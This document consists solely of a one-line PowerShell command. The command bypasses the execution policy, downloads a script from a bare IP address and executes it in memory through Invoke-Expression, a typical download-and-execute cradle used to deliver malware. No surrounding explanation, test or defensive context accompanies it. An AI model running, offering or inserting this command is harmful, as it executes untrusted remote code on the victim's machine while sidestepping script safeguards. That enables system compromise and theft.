powershell -ep bypass -c "iwr http://198.51.100.23/s.ps1 -UseBasicParsing | iex"
